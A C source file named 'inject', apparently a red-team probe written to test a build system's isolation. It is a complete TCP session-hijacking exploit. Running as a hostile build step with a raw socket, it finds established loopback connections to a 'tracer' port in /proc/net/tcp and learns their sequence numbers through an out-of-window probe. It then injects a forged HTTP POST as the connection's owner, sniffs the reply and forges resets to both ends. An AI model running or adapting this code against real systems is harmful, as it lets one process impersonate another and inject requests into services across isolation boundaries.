/* inject: a hostile RUN step (root in its container, default
 * capabilities: CAP_NET_RAW; host network in the lab) speaks on another
 * process's TCP connection to the tracer. It finds the established
 * connections to the tracer's port in /proc/net/tcp (its network
 * namespace's), learns each one's sequence numbers from the duplicate
 * ACK the tracer sends for an out-of-window segment, and injects an HTTP
 * request with a raw IP socket as if the connection's owner (a build's
 * frontend) had sent it. It prints the tracer's answer, sniffed with the
 * same raw socket, and then resets both ends so the owner reconnects.
 *
 * usage: inject <tracer port> <request path> */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define F_FIN 0x01
#define F_SYN 0x02
#define F_RST 0x04
#define F_PSH 0x08
#define F_ACK 0x10

struct seg {
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t flags;
	int has_ts;
	uint32_t tsval, tsecr;
	const unsigned char *data;
	int len;
};

static uint32_t sum16(const void *p, size_t n, uint32_t s)
{
	const unsigned char *b = p;
	for (; n > 1; n -= 2, b += 2)
		s += (uint32_t)b[0] << 8 | b[1];
	if (n)
		s += (uint32_t)b[0] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* send_seg sends one TCP segment 127.0.0.1:sport → 127.0.0.1:dport. */
static int send_seg(int fd, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack, uint8_t flags,
		    int ts, uint32_t tsval, uint32_t tsecr, const char *data, int len)
{
	unsigned char pkt[2048];
	int hl = ts ? 32 : 20;
	if (hl + len > (int)sizeof pkt)
		return -1;
	memset(pkt, 0, hl);
	pkt[0] = sport >> 8, pkt[1] = sport;
	pkt[2] = dport >> 8, pkt[3] = dport;
	uint32_t nseq = htonl(seq), nack = htonl(ack);
	memcpy(pkt + 4, &nseq, 4);
	memcpy(pkt + 8, &nack, 4);
	pkt[12] = (hl / 4) << 4;
	pkt[13] = flags;
	pkt[14] = 0xff, pkt[15] = 0xff; /* window */
	if (ts) {
		uint32_t v = htonl(tsval), e = htonl(tsecr);
		pkt[20] = 1, pkt[21] = 1, pkt[22] = 8, pkt[23] = 10;
		memcpy(pkt + 24, &v, 4);
		memcpy(pkt + 28, &e, 4);
	}
	memcpy(pkt + hl, data, len);
	unsigned char ph[12] = {127, 0, 0, 1, 127, 0, 0, 1, 0, IPPROTO_TCP, (hl + len) >> 8, (hl + len) & 0xff};
	uint16_t c = fold(sum16(pkt, hl + len, sum16(ph, 12, 0)));
	pkt[16] = c >> 8, pkt[17] = c;
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	return sendto(fd, pkt, hl + len, 0, (struct sockaddr *)&to, sizeof to);
}

/* next_seg waits up to ms for a TCP segment sport → dport on loopback. */
static int next_seg(int fd, uint16_t sport, uint16_t dport, int ms, struct seg *s, unsigned char *buf, int cap)
{
	struct timespec t0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct timespec now;
		clock_gettime(CLOCK_MONOTONIC, &now);
		int left = ms - (int)((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000);
		if (left <= 0)
			return 0;
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (poll(&p, 1, left) <= 0)
			return 0;
		int n = recv(fd, buf, cap, 0);
		if (n < 20)
			continue;
		int ihl = (buf[0] & 15) * 4;
		if (n < ihl + 20)
			continue;
		unsigned char *t = buf + ihl;
		uint16_t sp = t[0] << 8 | t[1], dp = t[2] << 8 | t[3];
		if (sp != sport || dp != dport)
			continue;
		int thl = (t[12] >> 4) * 4;
		memset(s, 0, sizeof *s);
		s->sport = sp, s->dport = dp;
		s->seq = (uint32_t)t[4] << 24 | t[5] << 16 | t[6] << 8 | t[7];
		s->ack = (uint32_t)t[8] << 24 | t[9] << 16 | t[10] << 8 | t[11];
		s->flags = t[13];
		for (int i = 20; i < thl;) {
			int k = t[i];
			if (k == 0)
				break;
			if (k == 1) {
				i++;
				continue;
			}
			int l = t[i + 1];
			if (l < 2)
				break;
			if (k == 8 && l == 10) {
				s->has_ts = 1;
				s->tsval = (uint32_t)t[i + 2] << 24 | t[i + 3] << 16 | t[i + 4] << 8 | t[i + 5];
				s->tsecr = (uint32_t)t[i + 6] << 24 | t[i + 7] << 16 | t[i + 8] << 8 | t[i + 9];
			}
			i += l;
		}
		s->data = t + thl;
		s->len = n - ihl - thl;
		return 1;
	}
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: inject <tracer port> <path>\n");
		return 2;
	}
	uint16_t tport = atoi(argv[1]);
	const char *path = argv[2];
	setvbuf(stdout, NULL, _IOLBF, 0);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	if (fd < 0) {
		printf("RT4 NORAW %s\n", strerror(errno));
		return 0;
	}
	printf("RT4 RAW ok\n");
	FILE *f = fopen("/proc/net/tcp", "r");
	if (!f) {
		printf("RT4 NOPROC %s\n", strerror(errno));
		return 0;
	}
	char line[512];
	uint16_t ports[64];
	int np = 0;
	while (fgets(line, sizeof line, f) && np < 64) {
		unsigned la, lp, ra, rp, st;
		if (sscanf(line, " %*d: %x:%x %x:%x %x", &la, &lp, &ra, &rp, &st) != 5)
			continue;
		/* The caller's end: 127.0.0.1:<port> → 127.0.0.1:<tracer>, established. */
		if (st == 1 && rp == tport && ra == htonl(INADDR_LOOPBACK) && la == htonl(INADDR_LOOPBACK))
			ports[np++] = lp;
	}
	fclose(f);
	printf("RT4 CONNS %d\n", np);
	unsigned char buf[65536];
	for (int i = 0; i < np; i++) {
		uint16_t p = ports[i];
		struct seg s;
		/* One byte far out of the window: the tracer answers with a
		 * duplicate ACK carrying its next sequence number and the next
		 * one it expects from the caller. */
		send_seg(fd, p, tport, 0x5a5a5a5a ^ (uint32_t)time(NULL), 0, F_ACK, 0, 0, 0, "x", 1);
		if (!next_seg(fd, tport, p, 1000, &s, buf, sizeof buf) || !(s.flags & F_ACK)) {
			printf("RT4 NOACK port %u\n", p);
			continue;
		}
		uint32_t tr_next = s.seq, caller_next = s.ack, tsval = s.tsecr, tsecr = s.tsval;
		printf("RT4 SEQ port %u tracer %u caller %u ts %d\n", p, tr_next, caller_next, s.has_ts);
		char req[1024];
		int n = snprintf(req, sizeof req,
				 "POST %s HTTP/1.1\r\nHost: 127.0.0.1:%u\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
				 path, tport);
		send_seg(fd, p, tport, caller_next, tr_next, F_ACK | F_PSH, s.has_ts, tsval + 1, tsecr, req, n);
		/* The answer, as it goes back to the caller's socket. */
		char resp[4096];
		int rl = 0;
		uint32_t want = tr_next;
		while (rl < (int)sizeof resp - 1 && next_seg(fd, tport, p, 2000, &s, buf, sizeof buf)) {
			/* In order only: the caller's kernel drops the answer (it
			 * acknowledges bytes it never sent), so the tracer sends it
			 * again. */
			if (s.len <= 0 || s.seq != want)
				continue;
			want += s.len;
			int c = s.len < (int)sizeof resp - 1 - rl ? s.len : (int)sizeof resp - 1 - rl;
			memcpy(resp + rl, s.data, c);
			rl += c;
			if (memmem(resp, rl, "\r\n\r\n", 4) && resp[rl - 1] == '\n')
				break;
		}
		resp[rl] = 0;
		for (int j = 0; j < rl; j++)
			if (resp[j] == '\r' || resp[j] == '\n')
				resp[j] = ' ';
		printf("RT4 RESP port %u: %s\n", p, rl ? resp : "(none)");
		/* Reset both ends, so the caller's client opens a new connection. */
		send_seg(fd, p, tport, caller_next + n, 0, F_RST, 0, 0, 0, "", 0);
		send_seg(fd, tport, p, tr_next, 0, F_RST, 0, 0, 0, "", 0);
	}
	printf("RT4 DONE\n");
	return 0;
}
